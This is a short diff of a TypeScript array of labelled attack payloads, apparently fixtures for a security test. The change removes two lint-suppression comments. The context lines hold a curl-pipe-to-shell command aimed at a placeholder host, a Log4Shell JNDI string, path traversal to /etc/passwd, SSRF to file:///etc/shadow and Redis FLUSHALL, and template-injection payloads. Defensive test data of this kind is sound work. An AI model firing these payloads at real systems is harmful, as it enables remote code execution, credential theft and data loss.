@@ -173,7 +173,6 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ["rce", "| id"],
   ["rce", "$(curl http://203.0.113.9/x.sh | sh)"],
   ["rce", "`uname -a`"],
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack payload, not a template
   ["rce", "${jndi:ldap://203.0.113.9:1389/a}"],
   ["ptrav", "../../../../etc/passwd"],
   ["ptrav", "..\\..\\..\\windows\\win.ini"],
@@ -181,7 +180,6 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ["ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"],
   ["ssrf", "file:///etc/shadow"],
   ["ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack payload, not a template
   ["ssti", "${T(java.lang.Runtime).getRuntime().exec('id')}"],
   ["crlf", "x\r\nSet-Cookie: session=attacker"],
   ["ldapi", "*)(uid=*))(|(uid=*"],
